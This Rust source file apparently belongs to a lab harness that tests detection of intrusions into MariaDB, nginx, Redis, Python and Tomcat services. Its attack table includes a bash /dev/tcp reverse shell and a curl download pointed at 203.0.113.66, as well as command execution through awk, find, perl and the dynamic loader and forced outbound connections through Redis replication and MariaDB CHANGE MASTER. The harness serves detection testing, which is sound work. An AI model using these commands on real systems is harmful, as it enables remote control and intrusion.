//! The services: what they are made from, how they are put to work, whether they answer, and how an intruder who has a
//! hold on one gets its process to start a program or to connect.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// How long an answer may take on a loaded machine.
const PATIENCE: Duration = Duration::from_secs(5);
/// What a MySQL server's greeting begins with, after the length and the number of its packet.
const PROTOCOL: u8 = 10;

/// What it speaks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Tongue {
    /// HTTP, with these pages for programs to start and addresses to connect to.
    Http {
        run: &'static str,
        connect: &'static str,
    },
    Redis,
    MariaDb,
}

/// One of them.
#[derive(Debug)]
pub struct Service {
    /// As the table names it.
    pub name: &'static str,
    /// Image definition.
    pub image: &'static str,
    port: u16,
    tongue: Tongue,
    /// One round of load: sh text for the client, `$H` the service's address.
    load: &'static str,
}

/// All of them.
pub const SERVICES: [Service; 5] = [
    Service {
        name: "mariadb",
        image: "held-mariadb",
        port: 3306,
        tongue: Tongue::MariaDb,
        load: "mariadb-slap -h $H -u lab --create-schema=slap$$ --auto-generate-sql --auto-generate-sql-load-type=mixed \
               --concurrency=4 --number-of-queries=200 --silent\n\
               mariadb -h $H -u lab lab -e \"INSERT INTO visits (path) VALUES ('/a'), ('/b'); \
               SELECT path, count(*) FROM visits GROUP BY path ORDER BY rand(); ANALYZE TABLE visits\" > /dev/null",
    },
    Service {
        name: "nginx",
        image: "held-nginx",
        port: 80,
        tongue: Tongue::Http { run: "/run", connect: "/connect" },
        load: "ab -q -n 300 -c 8 http://$H/ > /dev/null\nab -q -n 50 -c 4 http://$H/large.txt > /dev/null\n\
               ab -q -n 200 -c 4 http://$H/count > /dev/null\ncurl -s --compressed http://$H/large.txt > /dev/null",
    },
    Service {
        name: "redis",
        image: "held-redis",
        port: 6379,
        tongue: Tongue::Redis,
        load: "redis-benchmark -h $H -q -n 1500 -c 10 -t set,get,incr,lpush,hset,lrange_100 > /dev/null\n\
               redis-cli -h $H BGREWRITEAOF > /dev/null",
    },
    Service {
        name: "python",
        image: "held-python",
        port: 8000,
        tongue: Tongue::Http { run: "/run", connect: "/connect" },
        load: "ab -q -n 100 -c 4 http://$H:8000/ > /dev/null\nab -q -n 20 -c 2 http://$H:8000/pack > /dev/null\n\
               ab -q -n 10 -c 2 http://$H:8000/behind > /dev/null",
    },
    Service {
        name: "tomcat",
        image: "held-tomcat",
        port: 8080,
        tongue: Tongue::Http { run: "/run.jsp", connect: "/connect.jsp" },
        load: "ab -q -n 200 -c 8 http://$H:8080/ > /dev/null\nab -q -n 100 -c 4 http://$H:8080/page.jsp > /dev/null\n\
               ab -q -n 10 -c 2 http://$H:8080/host.jsp > /dev/null",
    },
];

impl Service {
    /// Where it listens.
    pub fn at(&self, address: std::net::IpAddr) -> SocketAddr {
        SocketAddr::new(address, self.port)
    }

    /// Load for so many seconds.
    pub fn load(&self, address: &str, seconds: u64) -> String {
        format!(
            "H={address}; end=$(($(date +%s) + {seconds})); while [ $(date +%s) -lt $end ]; do\n{}\ndone",
            self.load
        )
    }

    /// Client's text that makes the service's own process start a program.
    pub fn run(&self, address: &str, arguments: &[&str]) -> String {
        let port = self.port;
        match self.tongue {
            Tongue::Http { run, .. } => {
                let data: Vec<String> = arguments
                    .iter()
                    .enumerate()
                    .map(|(i, argument)| format!("--data-urlencode {}", quoted(&format!("a{i}={argument}"))))
                    .collect();
                format!("curl -s -m 5 -G http://{address}:{port}{run} {}", data.join(" "))
            }
            Tongue::Redis => {
                let words: Vec<String> = arguments.iter().map(|argument| quoted(argument)).collect();
                format!("redis-cli -h {address} MODULE LOAD /usr/lib/redis/lab-run.so {}", words.join(" "))
            }
            Tongue::MariaDb => {
                let literal = |argument: &&str| format!("'{}'", argument.replace('\\', "\\\\").replace('\'', "''"));
                let words: Vec<String> = arguments.iter().map(literal).collect();
                format!("mariadb -h {address} -u lab -e {}", quoted(&format!("SELECT lab_run({})", words.join(", "))))
            }
        }
    }

    /// Client's text that makes the service's own process connect.
    pub fn connect(&self, address: &str, to: SocketAddr) -> String {
        let (port, host, number) = (self.port, to.ip(), to.port());
        match self.tongue {
            Tongue::Http { connect, .. } => {
                format!("curl -s -m 5 'http://{address}:{port}{connect}?host={host}&port={number}'")
            }
            Tongue::Redis => {
                format!(
                    "redis-cli -h {address} REPLICAOF {host} {number}; sleep 2; redis-cli -h {address} REPLICAOF NO ONE"
                )
            }
            Tongue::MariaDb => format!(
                "mariadb -h {address} -u lab -e \"CHANGE MASTER TO MASTER_HOST='{host}', MASTER_PORT={number}, \
                 MASTER_USER='x'; START SLAVE; SELECT sleep(2); STOP SLAVE; RESET SLAVE ALL\""
            ),
        }
    }

    /// Does it answer what it is there for?
    pub fn answers(&self, address: SocketAddr) -> bool {
        self.ask(address).is_ok_and(|fine| fine)
    }

    fn ask(&self, address: SocketAddr) -> std::io::Result<bool> {
        let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        let question: &[u8] = match self.tongue {
            Tongue::Http { .. } => b"GET / HTTP/1.0\r\nHost: lab\r\n\r\n",
            Tongue::Redis => b"PING\r\n",
            Tongue::MariaDb => b"",
        };
        stream.write_all(question)?;
        let mut answer = [0_u8; 12];
        stream.read_exact(answer.get_mut(..5).unwrap_or_default())?;
        Ok(match self.tongue {
            Tongue::Redis => answer.starts_with(b"+PONG"),
            Tongue::MariaDb => answer[4] == PROTOCOL,
            Tongue::Http { .. } => {
                stream.read_exact(answer.get_mut(5..).unwrap_or_default())?;
                answer.ends_with(b" 200")
            }
        })
    }
}

/// For sh.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// One way in for an intruder, the same for all services.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Starts a program of the image's own, which leaves `/tmp/held-NAME`.
    Program { name: &'static str, arguments: &'static [&'static str] },
    /// The service's own process connects.
    Connect,
}

/// All of them.
pub const ATTACKS: [Attack; 8] = [
    Attack::Program { name: "sh", arguments: &["sh", "-c", "echo > /tmp/held-sh"] },
    Attack::Program { name: "perl", arguments: &["perl", "-e", "open F, '>/tmp/held-perl'"] },
    Attack::Program { name: "curl", arguments: &["curl", "-s", "-o", "/tmp/held-curl", "http://203.0.113.66/x"] },
    Attack::Program {
        name: "reverse-shell",
        arguments: &["bash", "-c", "exec 3<>/dev/tcp/203.0.113.66/4444; read -r line <&3; eval \"$line\""],
    },
    Attack::Program { name: "awk", arguments: &["awk", "BEGIN { system(\"touch /tmp/held-awk\") }"] },
    Attack::Program { name: "find", arguments: &["find", "/etc/hostname", "-exec", "touch", "/tmp/held-find", ";"] },
    Attack::Program {
        name: "loader",
        arguments: &["/lib64/ld-linux-x86-64.so.2", "/usr/bin/perl", "-e", "open F, '>/tmp/held-loader'"],
    },
    Attack::Connect,
];

/// What the listener on port 4444 says to a reverse shell.
pub const TYPED: &str = "touch /tmp/held-reverse-shell\n";

impl Attack {
    /// As the table names it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Program { name, .. } => name,
            Self::Connect => "connect",
        }
    }

    /// The file that is there once it has come to something; a connection leaves none.
    pub fn effect(self) -> Option<String> {
        match self {
            Self::Program { name, .. } => Some(format!("/tmp/held-{name}")),
            Self::Connect => None,
        }
    }

    /// Client's text for it.
    pub fn text(self, service: &Service, address: &str, listener: SocketAddr) -> String {
        match self {
            Self::Program { arguments, .. } => service.run(address, arguments),
            Self::Connect => service.connect(address, listener),
        }
    }

    /// What it is found as.
    pub fn kind(self) -> &'static str {
        match self {
            Self::Program { .. } => "baseline_exec",
            Self::Connect => "baseline_connect",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_reach_the_service_as_they_are() {
        let [mariadb, nginx, redis, ..] = SERVICES;
        assert_eq!(
            redis.run("h", &["sh", "-c", "a 'b'"]).split_once(".so ").map(|(_, rest)| rest.to_owned()),
            Some(r"'sh' '-c' 'a '\''b'\'''".to_owned())
        );
        assert!(nginx.run("h", &["sh"]).ends_with("--data-urlencode 'a0=sh'"));
        assert!(mariadb.run("h", &["a'b"]).contains("lab_run("));
    }
}
